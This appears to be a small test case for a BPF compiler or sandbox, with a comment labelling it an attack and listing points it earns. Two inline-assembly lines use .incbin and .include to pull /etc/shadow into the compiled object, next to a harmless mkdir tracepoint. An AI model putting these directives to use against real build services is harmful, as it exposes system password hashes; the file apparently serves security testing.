/*
 * attack: Puts /etc/shadow into the object with .incbin, and calls a helper by asm.
 * base: stub
 * earns: 1.1 1.2 1.3
 */

asm(".section .rodata\n.incbin \"/etc/shadow\"\n.text\n");
asm(".include \"/etc/shadow\"\n");

TRACEPOINT_PROBE(syscalls, sys_enter_mkdir)
{
	bpf_trace_printk("mkdir");
	return 0;
}
